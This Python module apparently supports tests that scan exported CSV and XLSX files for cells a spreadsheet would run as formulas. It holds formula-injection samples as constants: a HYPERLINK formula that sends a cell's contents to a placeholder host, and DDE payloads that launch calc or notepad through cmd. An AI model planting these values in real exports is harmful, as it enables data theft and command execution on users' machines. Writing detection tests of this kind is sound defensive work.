"""Read exported CSV and XLSX files back and list every cell a spreadsheet would run as a formula."""
from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_SUPPLIER = '=HYPERLINK("http://x/?"&B3,"Alpha")'
HOSTILE_SUPPLIER_EN = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_BUYER = "-2+3+cmd|' /C calc'!A0"
HOSTILE_BUYER_EN = "+cmd|' /C notepad'!A0"
HOSTILE_MISSION = "=1+1 Пермский форум"


def workbook_cells(data: bytes) -> list:
    workbook = load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def live_formulas_in_xlsx(data: bytes) -> list[str]:
    """Cells typed as formulas, or text that Excel would turn into one when the cell is edited."""
    return [f"{c.parent.title}!{c.coordinate}={c.value!r}" for c in workbook_cells(data)
            if c.data_type == "f" or (isinstance(c.value, str) and c.value.lstrip(" \n").startswith(FORMULA_STARTS))]


def csv_rows(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8-sig")
    delimiter = ";" if text.splitlines()[0].count(";") > text.splitlines()[0].count(",") else ","
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def live_formulas_in_csv(data: bytes) -> list[str]:
    return [cell for row in csv_rows(data) for cell in row if cell.lstrip(" \n").startswith(FORMULA_STARTS)]
